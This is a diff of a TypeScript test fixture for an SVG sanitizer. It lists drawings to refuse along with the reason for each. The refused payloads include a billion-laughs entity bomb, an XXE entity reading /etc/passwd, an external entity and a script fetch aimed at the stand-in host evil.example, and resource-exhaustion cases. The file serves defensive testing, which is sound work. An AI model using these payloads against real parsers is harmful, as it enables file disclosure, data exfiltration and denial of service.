@@ -2,7 +2,11 @@ const evil = 'https://evil.example'
 const run = `window.__ran=1;fetch('${evil}/')`
 
 function svg(content: string, { before = '', attributes = '' } = {}): string {
-  return `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40" ${attributes}><rect width="60" height="40" fill="#3538cd"/>${content}</svg>`
+  return before + bare(`<rect width="60" height="40" fill="#3538cd"/>${content}`, attributes)
+}
+
+function bare(content: string, attributes = ''): string {
+  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40" ${attributes}>${content}</svg>`
 }
 
 /** Drawings that are taken, for there is something to see in them, with what would run or load in a browser. */
@@ -40,12 +44,15 @@ const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "
 
 /** Drawings that are refused, and why. */
 export const refusedDrawings: Readonly<Record<string, readonly [text: string, reason: string]>> = {
-  'a billion laughs': [svg('<text>&l9;</text>', { before: `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>` }), 'broken'],
+  'a billion laughs': [
+    svg('<text>&l9;</text>', { before: `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>` }),
+    'has_entities',
+  ],
   'a file as an entity': [
     svg('<text>&a;</text>', { before: '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' }),
-    'broken',
+    'has_entities',
   ],
-  'an address as an entity': [svg('&a;', { before: `<!DOCTYPE svg [<!ENTITY a SYSTEM "${evil}/">]>` }), 'broken'],
+  'an address as an entity': [svg('&a;', { before: `<!DOCTYPE svg [<!ENTITY a SYSTEM "${evil}/">]>` }), 'has_entities'],
   'a bomb of uses': [
     svg(
       `${Array.from(
@@ -57,5 +64,16 @@ export const refusedDrawings: Readonly<Record<string, readonly [text: string, re
   ],
   'two megabytes of groups in each other': [svg('<g>'.repeat(280_000) + '</g>'.repeat(280_000)), 'too_dear'],
   'two megabytes of groups beside each other': [svg('<g/>'.repeat(480_000)), 'too_dear'],
+  'a bitmap and nothing else': [
+    bare('<image width="60" height="40" href="data:image/png;base64,AAAA"/>'),
+    'nothing_seen',
+  ],
+  'a bitmap as the pattern of a shape': [
+    bare(
+      '<defs><pattern id="p" width="1" height="1"><use href="#i"/></pattern><image id="i" href="data:image/png;base64,AAAA"/></defs><rect width="60" height="40" fill="url(#p)"/>',
+    ),
+    'nothing_seen',
+  ],
+  'an entity that nobody declares': [svg('<text>&nbsp;</text>'), 'broken'],
   'no size': ['<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>', 'no_size'],
 }
